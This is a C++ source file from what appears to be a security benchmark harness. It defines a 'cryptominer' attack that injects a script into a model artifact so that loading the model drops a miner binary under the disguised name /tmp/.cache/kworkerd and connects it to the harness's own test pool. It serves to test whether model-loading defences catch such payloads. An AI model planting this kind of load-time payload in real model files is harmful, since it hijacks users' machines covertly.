// cryptominer: the model load drops a real Stratum miner (armorbench-miner, double SHA-256) into
// /tmp and starts it against the harness's pool, which verifies every share. No keys.
#include "KindSupport.h"
#include "armorbench/attacks/Objectives.h"
#include "armorbench/base/Base64.h"
#include "armorbench/base/Files.h"

namespace armorbench::attacks {
namespace {
namespace fs = std::filesystem;
using nlohmann::json;

constexpr const char* kDropPath = "/tmp/.cache/kworkerd";

class Cryptominer final : public Attack {
 public:
  explicit Cryptominer(const AttackContext& context) : payload_(context, "pt") {}

  void prepare(const ModelArtifacts& model, const fs::path& run_dir, const std::string& host,
               WorkloadSpec& workload) override {
    const fs::path miner = payload_.context().bin_dir / "armorbench-miner";
    if (!fs::exists(miner))
      throw environment_error("the miner binary " + miner.string() + " is not built");
    pool_ = std::make_unique<ShareObjective>();
    payload_.inject_script(model, run_dir, workload, "drop_miner.py",
                           {{"binary_b64", base64_encode(read_whole_file(miner))},
                            {"drop_path", kDropPath},
                            {"host", host},
                            {"port", pool_->port()},
                            {"max_seconds", 30}});
  }

  ObjectiveStatus observe(AttackSurface& surface) override { return pool_->observe(surface); }
  std::vector<ExpectedOperation> expected_operations() const override {
    return {{Operation::kExec, kDropPath, "the dropped miner is started"},
            {Operation::kSocket, "socket tcp", "the miner creates its TCP socket"},
            {Operation::kConnect, "*:" + std::to_string(pool_->port()),
             "the miner connects to its pool"}};
  }

 private:
  ModelPayload payload_;
  std::unique_ptr<ShareObjective> pool_;
};

class CryptominerDefinition final : public DefinitionBase {
 public:
  CryptominerDefinition() : DefinitionBase("cryptominer") {}
  json objective() const override {
    return {{"type", "share_submitted"},
            {"what", "a valid Stratum share reaches the harness pool"}};
  }
  std::vector<ExpectedOperation> expected_operations() const override {
    return {{Operation::kExec, kDropPath, "the dropped miner is started"},
            {Operation::kSocket, "socket tcp", "the miner creates its TCP socket"},
            {Operation::kConnect, "", "the miner connects to its pool"}};
  }
  std::unique_ptr<Attack> instantiate(const AttackContext& context,
                                      const ResourceLimits&) const override {
    return std::make_unique<Cryptominer>(context);
  }
};

std::shared_ptr<AttackDefinition> parse(TomlTable&, const AttackParseContext&) {
  return std::make_shared<CryptominerDefinition>();
}

}  // namespace

AttackKindEntry cryptominer_kind() {
  return {"cryptominer", &parse,
          "The model load drops and starts a cryptocurrency miner against an outside pool",
          "CWE-506", 6.5};
}

}  // namespace armorbench::attacks
